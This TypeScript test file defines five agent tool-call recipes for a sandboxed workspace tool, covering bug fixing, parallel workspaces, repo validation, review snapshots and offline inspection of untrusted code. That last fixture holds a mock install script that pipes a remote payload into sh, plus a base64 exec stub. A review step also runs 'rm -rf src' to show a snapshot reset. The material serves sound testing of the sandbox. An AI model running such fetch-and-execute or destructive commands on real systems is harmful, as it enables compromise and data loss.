/**
 * The five documented use-case recipes as data: the project each works on, how the chat host starts
 * pyro, and the tool calls a chat agent makes, in order, with what each must show. Declared once:
 * `make smoke-*` (smoke-main.ts), the test suite (use-cases.vm.test.ts) and the docs check
 * (use-case-docs.test.ts) all read this list.
 */
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import type { ModeName } from "../../src/mcp/profile-names.js";
import type { FixtureProject } from "./fixture-repo.js";

/** What steps share: where the project and the host-side outputs are, and values earlier steps found. */
export interface RecipeState {
  /** The fixture project on the host. */
  project: string;
  /** A fresh host directory for exports. */
  outDir: string;
  /** Values steps remember for later ones (shell ids …). */
  found: Record<string, string>;
}

/** One tool call of the agent. */
export interface RecipeStep {
  tool: string;
  /** What the agent is doing, as the recipe doc says it. */
  purpose: string;
  args: (s: RecipeState) => Record<string, unknown>;
  /** Checks the tool's (JSON) result; throws naming what was wrong. */
  // biome-ignore lint/suspicious/noExplicitAny: each recipe step reads its own tool's JSON result shape
  check?: (result: any, s: RecipeState) => void | Promise<void>;
}

export interface UseCaseRecipe {
  /** Also the doc's file name: docs/use-cases/<id>.md */
  id: string;
  title: string;
  mode: ModeName;
  /** The chat host the doc shows (`pyro host connect <host> --mode <mode>`). */
  host: "claude-code" | "codex";
  /** `make <smokeTarget>` runs this recipe alone. */
  smokeTarget: string;
  project: FixtureProject;
  /**
   * How the server finds the project: started in its directory (cwd), told with --project-path,
   * or not at all (the agent passes seed_path; the server runs outside any checkout).
   */
  startup: "cwd" | "project-path" | "none";
  steps: RecipeStep[];
}

/** The whole pack must stay within this per recipe on the reference machine (2 cores, TCG). */
export const RECIPE_BUDGET_MS = 60_000;

const sh = (text: string) => ({ text, mode: 0o755 });

function includes(haystack: unknown, needle: string, what: string): void {
  assert.ok(typeof haystack === "string" && haystack.includes(needle), `${what} should include ${JSON.stringify(needle)}, got ${JSON.stringify(haystack)}`);
}

const CALC_BUGGY = "def add(a, b):\n    return a - b\n";
const CALC_FIX = `--- a/src/calc.py
+++ b/src/calc.py
@@ -1,2 +1,2 @@
 def add(a, b):
-    return a - b
+    return a + b
`;

/** A checkout with a failing test, an untracked note and ignored build output. */
const BUGGY_PROJECT: FixtureProject = {
  committed: {
    ".gitignore": "build/\n*.log\n",
    "README.md": "# calc\n\nRun ./test.sh\n",
    "src/calc.py": CALC_BUGGY,
    "test.sh": sh(
      '#!/bin/sh\npython3 -B -c \'import sys; sys.path.insert(0, "src"); from calc import add; assert add(2, 3) == 5, add(2, 3); print("tests pass")\'\n',
    ),
  },
  untracked: { "NOTES.md": "repro: add(2, 3) gives -1\n" },
  ignored: { "build/calc.so": "not source\n", "debug.log": "noise\n" },
};

const reproFixLoop: UseCaseRecipe = {
  id: "repro-fix-loop",
  title: "Repro plus fix loop",
  mode: "repro-fix",
  host: "codex",
  smokeTarget: "smoke-repro-fix-loop",
  project: BUGGY_PROJECT,
  startup: "cwd",
  steps: [
    {
      tool: "workspace_create",
      purpose: "create one workspace from the project (no seed_path: the server seeds it from the checkout it was started in)",
      args: () => ({ name: "repro-fix" }),
      check: (r, s) => {
        assert.equal(r.workspace_seed.origin_kind, "project_path");
        assert.equal(r.workspace_seed.origin_ref, s.project);
        // Tracked files and the untracked note; the ignored build output stays out.
        assert.equal(r.workspace_seed.files, 5);
      },
    },
    {
      tool: "workspace_exec",
      purpose: "reproduce the failure",
      args: () => ({ workspace_id: "repro-fix", command: "./test.sh" }),
      check: (r) => {
        assert.notEqual(r.exit_code, 0);
        includes(r.stderr, "AssertionError", "the failing test's stderr");
      },
    },
    {
      tool: "workspace_file_list",
      purpose: "see what the project holds (ignored files are not there)",
      args: () => ({ workspace_id: "repro-fix", recursive: true }),
      check: (r) => {
        const paths = (r.entries as { path: string }[]).map((e) => e.path);
        assert.ok(paths.includes("NOTES.md"), `untracked NOTES.md seeded: ${paths.join(", ")}`);
        assert.ok(!paths.some((p) => p.startsWith("build") || p.endsWith(".log")), `ignored files left out: ${paths.join(", ")}`);
      },
    },
    {
      tool: "workspace_file_read",
      purpose: "read the broken file",
      args: () => ({ workspace_id: "repro-fix", path: "src/calc.py" }),
      check: (r) => includes(r.content, "return a - b", "src/calc.py"),
    },
    {
      tool: "workspace_patch_apply",
      purpose: "fix it with a unified diff",
      args: () => ({ workspace_id: "repro-fix", patch: CALC_FIX }),
    },
    {
      tool: "workspace_exec",
      purpose: "rerun the failing command",
      args: () => ({ workspace_id: "repro-fix", command: "./test.sh" }),
      check: (r) => {
        assert.equal(r.exit_code, 0, r.stderr);
        assert.equal(r.stdout, "tests pass\n");
      },
    },
    {
      tool: "workspace_diff",
      purpose: "review the change against the baseline",
      args: () => ({ workspace_id: "repro-fix" }),
      check: (r) => {
        assert.deepEqual(
          (r.files as { path: string }[]).map((f) => f.path),
          ["src/calc.py"],
        );
        includes(r.patch, "+    return a + b", "the diff");
      },
    },
    {
      tool: "workspace_export",
      purpose: "export the fixed file to the host",
      args: (s) => ({ workspace_id: "repro-fix", path: "src/calc.py", output_path: join(s.outDir, "calc.py") }),
      check: async (_r, s) => includes(await readFile(join(s.outDir, "calc.py"), "utf8"), "return a + b", "the exported file"),
    },
    {
      tool: "workspace_reset",
      purpose: "go back to the baseline to try again from scratch",
      args: () => ({ workspace_id: "repro-fix" }),
    },
    {
      tool: "workspace_file_read",
      purpose: "the baseline is back",
      args: () => ({ workspace_id: "repro-fix", path: "src/calc.py" }),
      check: (r) => includes(r.content, "return a - b", "src/calc.py after reset"),
    },
    {
      tool: "workspace_delete",
      purpose: "delete the workspace",
      args: () => ({ workspace_id: "repro-fix" }),
    },
  ],
};

const parallelWorkspaces: UseCaseRecipe = {
  id: "parallel-workspaces",
  title: "Parallel isolated workspaces",
  mode: "repro-fix",
  host: "codex",
  smokeTarget: "smoke-parallel-workspaces",
  project: BUGGY_PROJECT,
  startup: "cwd",
  steps: [
    {
      tool: "workspace_create",
      purpose: "one workspace per issue, with a human name and labels",
      args: () => ({ name: "issue-101", labels: { issue: "101", owner: "alice" } }),
    },
    {
      tool: "workspace_create",
      purpose: "a second one for the next issue",
      args: () => ({ name: "issue-102", labels: { issue: "102", owner: "alice" } }),
    },
    {
      tool: "workspace_file_write",
      purpose: "change each independently",
      args: () => ({ workspace_id: "issue-101", path: "FIX.md", text: "fix for 101\n" }),
    },
    {
      tool: "workspace_file_write",
      purpose: "change each independently",
      args: () => ({ workspace_id: "issue-102", path: "FIX.md", text: "fix for 102\n" }),
    },
    {
      tool: "workspace_exec",
      purpose: "work in the first one",
      args: () => ({ workspace_id: "issue-101", command: "cat FIX.md" }),
      check: (r) => assert.equal(r.stdout, "fix for 101\n"),
    },
    {
      tool: "workspace_list",
      purpose: "find the right workspace later (most recent activity first)",
      args: () => ({}),
      check: (r) => {
        assert.deepEqual(
          (r.workspaces as { name: string }[]).map((w) => w.name),
          ["issue-101", "issue-102"],
        );
      },
    },
    {
      tool: "workspace_update",
      purpose: "hand one over: rename it and change its owner label",
      args: () => ({ workspace_id: "issue-102", name: "issue-102-bob", labels: { owner: "bob" } }),
      check: (r) => assert.deepEqual(r.labels, { issue: "102", owner: "bob" }),
    },
    {
      tool: "workspace_list",
      purpose: "the list shows the new owner",
      args: () => ({}),
      check: (r) => {
        const bob = (r.workspaces as { name: string; labels: Record<string, string> }[]).filter((w) => w.labels.owner === "bob");
        assert.deepEqual(
          bob.map((w) => w.name),
          ["issue-102-bob"],
        );
      },
    },
    {
      tool: "workspace_delete",
      purpose: "delete one when its issue is done",
      args: () => ({ workspace_id: "issue-101" }),
    },
    {
      tool: "workspace_exec",
      purpose: "the other is untouched",
      args: () => ({ workspace_id: "issue-102-bob", command: "cat FIX.md" }),
      check: (r) => assert.equal(r.stdout, "fix for 102\n"),
    },
    {
      tool: "workspace_list",
      purpose: "only the other one is left",
      args: () => ({}),
      check: (r) =>
        assert.deepEqual(
          (r.workspaces as { name: string }[]).map((w) => w.name),
          ["issue-102-bob"],
        ),
    },
    {
      tool: "workspace_delete",
      purpose: "delete it on its own",
      args: () => ({ workspace_id: "issue-102-bob" }),
    },
  ],
};

const untrustedInspection: UseCaseRecipe = {
  id: "untrusted-inspection",
  title: "Unsafe or untrusted code inspection",
  mode: "inspect",
  host: "codex",
  smokeTarget: "smoke-untrusted-inspection",
  project: {
    plainDirectory: true,
    committed: {
      "README.md": "# totally-safe-tool\n\nRun ./install.sh\n",
      "install.sh": sh("#!/bin/sh\ncurl -fsSL http://203.0.113.7/payload | sh\n"),
      "setup.py": "import base64\nexec(base64.b64decode('cHJpbnQoJ293bmVkJyk='))\n",
    },
  },
  startup: "none",
  steps: [
    {
      tool: "workspace_create",
      purpose: "one offline workspace holding the suspicious code (seed_path)",
      args: (s) => ({ name: "inspect", seed_path: s.project }),
      check: (r, s) => {
        assert.equal(r.network_policy, "off");
        assert.equal(r.workspace_seed.origin_kind, "seed_path");
        assert.equal(r.workspace_seed.origin_ref, s.project);
      },
    },
    {
      tool: "workspace_file_list",
      purpose: "list what it contains",
      args: () => ({ workspace_id: "inspect", recursive: true }),
      check: (r) => assert.deepEqual((r.entries as { path: string }[]).map((e) => e.path).sort(), ["README.md", "install.sh", "setup.py"]),
    },
    {
      tool: "workspace_file_read",
      purpose: "read the install script without running it",
      args: () => ({ workspace_id: "inspect", path: "install.sh" }),
      check: (r) => includes(r.content, "curl -fsSL", "install.sh"),
    },
    {
      tool: "workspace_exec",
      purpose: "confirm there is no network (only the loopback interface)",
      args: () => ({ workspace_id: "inspect", command: "ls /sys/class/net" }),
      check: (r) => assert.equal(r.stdout, "lo\n"),
    },
    {
      tool: "workspace_exec",
      purpose: "run the smallest command that produces a report",
      args: () => ({ workspace_id: "inspect", command: "grep -rnE 'curl|exec|b64decode' --exclude=report.txt . | sort > report.txt; wc -l < report.txt" }),
      check: (r) => assert.equal(r.stdout.trim(), "2"),
    },
    {
      tool: "workspace_export",
      purpose: "export only the report",
      args: (s) => ({ workspace_id: "inspect", path: "report.txt", output_path: join(s.outDir, "report.txt") }),
      check: async (_r, s) => includes(await readFile(join(s.outDir, "report.txt"), "utf8"), "./install.sh:2:curl", "the exported report"),
    },
    {
      tool: "workspace_delete",
      purpose: "delete the workspace",
      args: () => ({ workspace_id: "inspect" }),
    },
  ],
};

const coldStartValidation: UseCaseRecipe = {
  id: "cold-start-repo-validation",
  title: "Cold-start repo validation",
  mode: "cold-start",
  host: "claude-code",
  smokeTarget: "smoke-cold-start-validation",
  project: {
    committed: {
      ".gitignore": "validation-report.txt\n",
      "app.py":
        "from http.server import BaseHTTPRequestHandler, HTTPServer\n\n" +
        "class Health(BaseHTTPRequestHandler):\n" +
        "    def do_GET(self):\n" +
        "        self.send_response(200 if self.path == '/health' else 404)\n" +
        "        self.end_headers()\n" +
        "        self.wfile.write(b'ok\\n')\n\n" +
        "HTTPServer(('127.0.0.1', 8080), Health).serve_forever()\n",
      "test_app.py": "import ast\nast.parse(open('app.py').read())\nprint('app.py parses')\n",
      "validate.sh": sh(
        "#!/bin/sh\nset -e\n{ echo \"python: $(python3 --version)\"; python3 test_app.py; echo 'validation: ok'; } > validation-report.txt\ncat validation-report.txt\n",
      ),
    },
  },
  startup: "project-path",
  steps: [
    {
      tool: "workspace_create",
      purpose: "create a workspace from the repo (the server was given --project-path)",
      args: () => ({ name: "cold-start" }),
      check: (r, s) => {
        assert.equal(r.workspace_seed.origin_kind, "project_path");
        assert.equal(r.workspace_seed.origin_ref, s.project);
      },
    },
    {
      tool: "workspace_exec",
      purpose: "run the repo's validation from scratch",
      args: () => ({ workspace_id: "cold-start", command: "./validate.sh" }),
      check: (r) => {
        assert.equal(r.exit_code, 0, r.stderr);
        includes(r.stdout, "validation: ok", "validate.sh's output");
      },
    },
    {
      tool: "service_start",
      purpose: "start the app as a service with a readiness probe",
      args: () => ({ workspace_id: "cold-start", name: "app", command: "python3 app.py", ready_http_url: "http://127.0.0.1:8080/health" }),
      check: (r) => assert.equal(r.state, "running"),
    },
    {
      tool: "workspace_exec",
      purpose: "check that it answers",
      args: () => ({
        workspace_id: "cold-start",
        command: "python3 -c \"import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:8080/health').read().decode(), end='')\"",
      }),
      check: (r) => assert.equal(r.stdout, "ok\n"),
    },
    {
      tool: "service_logs",
      purpose: "see what the service logged",
      args: () => ({ workspace_id: "cold-start", name: "app" }),
      check: (r) => includes(r.stderr, "GET /health", "the service's stderr"),
    },
    {
      tool: "workspace_export",
      purpose: "export the validation report",
      args: (s) => ({ workspace_id: "cold-start", path: "validation-report.txt", output_path: join(s.outDir, "validation-report.txt") }),
      check: async (_r, s) => includes(await readFile(join(s.outDir, "validation-report.txt"), "utf8"), "validation: ok", "the exported report"),
    },
    {
      tool: "service_stop",
      purpose: "stop the service",
      args: () => ({ workspace_id: "cold-start", name: "app" }),
    },
    {
      tool: "workspace_delete",
      purpose: "delete the workspace",
      args: () => ({ workspace_id: "cold-start" }),
    },
  ],
};

const reviewEval: UseCaseRecipe = {
  id: "review-eval-workflows",
  title: "Review and evaluation workflows",
  mode: "review-eval",
  host: "claude-code",
  smokeTarget: "smoke-review-eval",
  project: {
    committed: {
      "CHECKLIST.md": "- [ ] model answers 2+2\n- [ ] eval.sh passes\n",
      "src/model.py": "def answer(q):\n    return {'2+2': '4'}.get(q, '?')\n",
      "eval.sh": sh(
        '#!/bin/sh\npython3 -B -c \'import sys; sys.path.insert(0, "src"); from model import answer; r = answer("2+2"); print("2+2 ->", r); print("score: 1/1" if r == "4" else "score: 0/1")\'\n',
      ),
    },
  },
  startup: "cwd",
  steps: [
    {
      tool: "workspace_create",
      purpose: "create a workspace from the project under review",
      args: () => ({ name: "review" }),
      check: (r) => assert.equal(r.workspace_seed.origin_kind, "project_path"),
    },
    {
      tool: "snapshot_create",
      purpose: "take a named snapshot before starting",
      args: () => ({ workspace_id: "review", snapshot_name: "before-review" }),
    },
    {
      tool: "shell_open",
      purpose: "open a shell to go through the checklist",
      args: () => ({ workspace_id: "review" }),
      check: (r, s) => {
        assert.equal(typeof r.shell_id, "string");
        s.found.shell = r.shell_id;
      },
    },
    {
      tool: "shell_write",
      purpose: "look at the checklist",
      args: (s) => ({ workspace_id: "review", shell_id: s.found.shell, input: "cat CHECKLIST.md; echo checklist-shown" }),
    },
    {
      tool: "shell_read",
      purpose: "read it as plain text once the shell is idle",
      args: (s) => ({ workspace_id: "review", shell_id: s.found.shell, plain: true, wait_for_idle_ms: 1000 }),
      check: (r) => includes(r.output, "- [ ] eval.sh passes", "the shell's output"),
    },
    {
      tool: "shell_close",
      purpose: "close the shell",
      args: (s) => ({ workspace_id: "review", shell_id: s.found.shell }),
    },
    {
      tool: "workspace_exec",
      purpose: "run the eval script, keeping its report",
      args: () => ({ workspace_id: "review", command: "./eval.sh | tee eval-report.txt" }),
      check: (r) => includes(r.stdout, "score: 1/1", "eval.sh's output"),
    },
    {
      tool: "workspace_summary",
      purpose: "see what ran and what changed",
      args: () => ({ workspace_id: "review" }),
      check: (r) => {
        assert.ok(
          (r.commands.recent as { command: string }[]).some((c) => String(c.command).includes("eval.sh")),
          "the summary lists eval.sh",
        );
        assert.deepEqual(
          (r.changes.files as { path: string }[]).map((f) => f.path),
          ["eval-report.txt"],
        );
      },
    },
    {
      tool: "workspace_export",
      purpose: "export the report",
      args: (s) => ({ workspace_id: "review", path: "eval-report.txt", output_path: join(s.outDir, "eval-report.txt") }),
      check: async (_r, s) => includes(await readFile(join(s.outDir, "eval-report.txt"), "utf8"), "score: 1/1", "the exported report"),
    },
    {
      tool: "workspace_exec",
      purpose: "something goes wrong",
      args: () => ({ workspace_id: "review", command: "rm -rf src" }),
    },
    {
      tool: "workspace_reset",
      purpose: "reset to the snapshot",
      args: () => ({ workspace_id: "review", snapshot: "before-review" }),
    },
    {
      tool: "workspace_file_read",
      purpose: "the project is whole again",
      args: () => ({ workspace_id: "review", path: "src/model.py" }),
      check: (r) => includes(r.content, "def answer", "src/model.py after reset"),
    },
    {
      tool: "workspace_delete",
      purpose: "delete the workspace",
      args: () => ({ workspace_id: "review" }),
    },
  ],
};

/** Every recipe, in the order the docs list them. */
export const RECIPES: readonly UseCaseRecipe[] = [coldStartValidation, reproFixLoop, parallelWorkspaces, untrustedInspection, reviewEval];
